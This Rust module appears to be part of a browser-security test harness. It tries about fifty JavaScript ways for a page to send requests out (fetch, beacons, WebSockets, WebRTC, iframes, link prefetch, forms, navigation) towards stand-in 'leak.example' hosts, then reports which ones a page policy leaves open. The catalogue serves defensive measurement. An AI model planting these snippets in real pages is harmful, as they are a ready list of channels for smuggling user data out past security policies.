//! Every known way out of a page, tried as if a script of ours had gone bad: which of them does the policy leave open?
//!
//! In: a page inside the watched network. Out: the names of the ways that something came out of. The control is a page
//! without a policy, from which most of them must be seen.

use std::time::{Duration, Instant};

use serde_json::json;

use crate::driver::Session;
use crate::namespace::Sinks;

/// Ways that leave the page where it is; all are tried at once, each towards a name of its own, `HOST`.
const STAYING: &[(&str, &str)] = &[
    ("fetch", "fetch('http://HOST/').catch(() => {})"),
    ("fetch-keepalive", "fetch('http://HOST/', {keepalive: true, method: 'POST', body: 'x'}).catch(() => {})"),
    ("xhr", "const x = new XMLHttpRequest(); x.open('GET', 'http://HOST/'); x.send()"),
    ("websocket", "new WebSocket('ws://HOST/')"),
    ("eventsource", "new EventSource('http://HOST/')"),
    ("beacon", "navigator.sendBeacon('http://HOST/', 'x')"),
    ("image", "new Image().src = 'http://HOST/i.png'"),
    ("image-srcset", "const i = new Image(); i.srcset = 'http://HOST/i.png 1x'; document.body.append(i)"),
    ("css-url", "const d = document.createElement('div'); d.textContent = 'x'; d.style.backgroundImage = 'url(http://HOST/b.png)'; document.body.append(d)"),
    ("css-import", "const s = document.createElement('style'); s.textContent = '@import \"http://HOST/i.css\";'; document.head.append(s)"),
    ("css-adopted", "const s = new CSSStyleSheet(); s.replaceSync('body { border-image: url(http://HOST/a.png) 1 }'); document.adoptedStyleSheets.push(s)"),
    ("font", "new FontFace('x', 'url(http://HOST/f.woff2)').load().catch(() => {})"),
    ("link-stylesheet", "link('stylesheet')"),
    ("link-prefetch", "link('prefetch')"),
    ("link-preload", "link('preload', {as: 'image'})"),
    ("link-modulepreload", "link('modulepreload')"),
    ("link-icon", "link('icon')"),
    ("link-manifest", "link('manifest')"),
    ("link-dns-prefetch", "link('dns-prefetch')"),
    ("link-preconnect", "link('preconnect')"),
    ("script", "const s = document.createElement('script'); s.src = 'http://HOST/s.js'; document.head.append(s)"),
    ("import", "import('http://HOST/m.js').catch(() => {})"),
    ("frame", "put('iframe', {src: 'http://HOST/'})"),
    ("frame-srcdoc", "put('iframe', {srcdoc: '<img src=\"http://HOST/i.png\">'})"),
    ("frame-blob", "put('iframe', {src: URL.createObjectURL(new Blob(['<img src=\"http://HOST/i.png\">'], {type: 'text/html'}))})"),
    ("frame-data", "put('iframe', {src: 'data:text/html,<img src=\"http://HOST/i.png\">'})"),
    ("object", "put('object', {data: 'http://HOST/'})"),
    ("embed", "put('embed', {src: 'http://HOST/'})"),
    ("video", "put('video', {src: 'http://HOST/v.mp4', preload: 'auto'}).load?.()"),
    ("audio", "put('audio', {src: 'http://HOST/a.mp3', preload: 'auto'}).load?.()"),
    ("poster", "put('video', {poster: 'http://HOST/p.png'})"),
    ("svg-image", "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const i = document.createElementNS('http://www.w3.org/2000/svg', 'image');
        i.setAttribute('href', 'http://HOST/i.png'); s.append(i); document.body.append(s)"),
    ("form-in-frame", "const f = put('iframe', {name: 'fNUMBER'}); const form = put('form', {action: 'http://HOST/', target: 'fNUMBER', method: 'post'}); form.submit()"),
    ("worker", "new Worker('http://HOST/w.js')"),
    ("worker-fetch", "worker(\"fetch('http://HOST/').catch(() => {})\")"),
    ("worker-import", "worker(\"importScripts('http://HOST/x.js')\")"),
    ("worker-socket", "worker(\"new WebSocket('ws://HOST/')\")"),
    ("webrtc-stun", "rtc('stun:HOST:3478')"),
    ("webrtc-turn", "rtc('turn:HOST:3478')"),
    ("webtransport", "new WebTransport('https://HOST/').ready.catch(() => {})"),
    ("speculation", "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"http://HOST/\"]}]}'; document.head.append(s)"),
    ("fetch-later", "fetchLater('https://HOST/', {activateAfter: 0})"),
    ("ping", "const a = put('a', {href: '#x', ping: 'http://HOST/'}); a.click()"),
];

/// Ways that take the page somewhere else; each is tried on a page of its own, in a tab of its own.
const LEAVING: &[(&str, &str)] = &[
    ("navigate", "location.href = 'http://HOST/'"),
    ("refresh", "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://HOST/'; document.head.append(m)"),
    ("popup", "window.open('http://HOST/')"),
    ("anchor", "const a = put('a', {href: 'http://HOST/'}); a.click()"),
    ("download", "const a = put('a', {href: 'http://HOST/d.bin', download: 'd.bin'}); a.click()"),
    ("form", "put('form', {action: 'http://HOST/', method: 'post'}).submit()"),
];

/// What the scripts above lean on.
const HELP: &str = "const put = (name, more) => { const e = document.createElement(name); for (const [k, v] of Object.entries(more)) e.setAttribute(k, v); document.body.append(e); return e; };
    const link = (rel, more = {}) => { const l = document.createElement('link'); l.rel = rel; Object.assign(l, more); l.href = 'http://HOST/' + rel; document.head.append(l); };
    const worker = (text) => { const url = URL.createObjectURL(new Blob([text], {type: 'text/javascript'}));
      const policy = self.trustedTypes?.defaultPolicy; new Worker(policy ? policy.createScriptURL(url) : url); };
    const rtc = (url) => { const p = new RTCPeerConnection({iceServers: [{urls: url, username: 'u', credential: 'c'}], iceTransportPolicy: 'all'}); p.createDataChannel('x');
      p.createOffer().then(o => p.setLocalDescription(o)).catch(() => {}); };";

/// What was seen of all ways.
pub struct Seen {
    /// Names of the ways from which anything came.
    pub open: Vec<&'static str>,
    /// Milliseconds from the last attempt to the last way that showed itself.
    pub last_ms: u64,
}

/// Tries every way, then listens: each of those that leave a page has a tab of its own, so that all can be waited for at once.
pub fn tried(sinks: &Sinks, session: &Session, open: &dyn Fn(&Session, bool), wait: Duration) -> Seen {
    open(session, true);
    // What the browser does by itself at its start is not the page's doing.
    std::thread::sleep(Duration::from_millis(1500));
    sinks.take();
    for (number, (_, script)) in STAYING.iter().enumerate() {
        attempt(session, number, script);
    }
    for (number, (_, script)) in (STAYING.len()..).zip(LEAVING) {
        session.new_tab();
        open(session, false);
        attempt(session, number, script);
    }
    let (begun, names) = (Instant::now(), STAYING.iter().chain(LEAVING).map(|(name, _)| *name));
    let mut hosts: Vec<(String, &'static str, bool)> = names.enumerate().map(|(number, name)| (host(number), name, false)).collect();
    let mut last_ms = 0;
    while begun.elapsed() < wait {
        std::thread::sleep(Duration::from_millis(100));
        let lines = sinks.take();
        for (host, _, seen) in hosts.iter_mut().filter(|(_, _, seen)| !seen) {
            if lines.iter().any(|line| line.contains(host.as_str())) {
                (*seen, last_ms) = (true, begun.elapsed().as_millis() as u64);
            }
        }
    }
    Seen { open: hosts.into_iter().filter(|(_, _, seen)| *seen).map(|(_, name, _)| name).collect(), last_ms }
}

/// The channel of the published matrix that a way belongs to: a form is one channel, wherever its answer is to be shown.
pub fn channel(way: &str) -> &str {
    if way == "form-in-frame" { "form" } else { way }
}

/// All ways.
pub fn all() -> usize {
    STAYING.len() + LEAVING.len()
}

fn host(number: usize) -> String {
    format!("way{number}.leak.example")
}

/// Runs a way's script; what it throws is its own affair.
fn attempt(session: &Session, number: usize, script: &str) {
    let text = format!("{HELP}; {script}").replace("HOST", &host(number)).replace("NUMBER", &number.to_string());
    session.script(&format!("try {{ {text} }} catch (refused) {{ }} return true"), &[json!(0)]);
}
